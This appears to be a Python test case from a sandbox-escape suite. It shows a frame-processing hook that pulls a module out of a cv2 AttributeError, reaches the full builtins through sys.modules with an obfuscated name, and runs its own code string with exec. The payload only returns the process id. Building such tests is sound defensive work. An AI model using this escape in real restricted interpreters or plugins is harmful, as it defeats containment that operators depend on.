# attack: run a whole program of one's own, with every builtin, by the module that an error carries
# class: interpreter walk
# wall: fdless

import cv2

TEXT = "import os\ndef reached():\n    return os.getpid()\n"


def lost(found):
    try:
        return found.COLOR_THERE_IS_NONE
    except AttributeError as error:
        return [error]


def attack(frame, frame_index, config):
    try:
        cv2.COLOR_THERE_IS_NONE
    except AttributeError as error:
        match error:
            case AttributeError(obj=module):
                builtins = module.sys.modules["built" + "ins"]
    space = {"_" + "_builtins_" + "_": builtins}
    builtins.exec(TEXT, space)
    return f"inside: process {space['reached']()}"
